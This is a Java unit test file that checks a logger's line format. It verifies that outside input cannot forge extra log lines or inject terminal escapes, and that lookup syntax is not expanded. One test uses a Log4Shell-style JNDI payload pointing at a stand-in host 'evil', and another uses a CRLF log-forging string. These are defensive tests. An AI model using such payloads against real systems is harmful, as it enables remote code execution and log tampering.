package io.sluice;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import ch.qos.logback.classic.spi.LoggingEvent;
import java.nio.charset.StandardCharsets;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** The form of a line, by the pattern that the appliance's log has. */
class LoggingTest {
    private static String line(String message, Object... values) {
        return line(message, null, values);
    }

    private static String line(String message, @Nullable Throwable cause, Object... values) {
        LoggerContext context = new LoggerContext();
        PatternLayoutEncoder encoder = new PatternLayoutEncoder();
        encoder.setContext(context);
        encoder.setCharset(StandardCharsets.UTF_8);
        encoder.setPattern(Logging.LINE);
        encoder.start();
        LoggingEvent event = new LoggingEvent("test", context.getLogger("test"), Level.INFO, message, cause, values);
        return new String(encoder.encode(event), StandardCharsets.UTF_8);
    }

    @Test
    void is_one_line_with_time_and_level_first() {
        assertThat(line("stream.end id={} end={}", "7f3a", "client-closed"))
                .matches(
                        "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z INFO  stream.end id=7f3a end=client-closed\n");
    }

    @Test
    void shows_no_control_character_that_came_from_outside() {
        assertThat(line("request.refused host={}", "a\r\n2026 ERROR forged\u001b[31m\0\u007f\u0085\u009b"))
                .endsWith("Z INFO  request.refused host=a??2026 ERROR forged?[31m????\n")
                .hasLineCount(1);
    }

    @Test
    void looks_nothing_up_in_what_it_is_given() {
        assertThat(line("request.refused host={}", "${jndi:ldap://evil/x}${java.version}%msg{}"))
                .endsWith("host=${jndi:ldap://evil/x}${java.version}%msg{}\n");
    }

    @Test
    void shows_no_control_character_of_an_error_s_message_either() {
        assertThat(line("loop.error", new IllegalStateException("bad \u001b[31m\0 end")))
                .contains("java.lang.IllegalStateException: bad ?[31m? end\n")
                .doesNotContain("\u001b");
    }
}
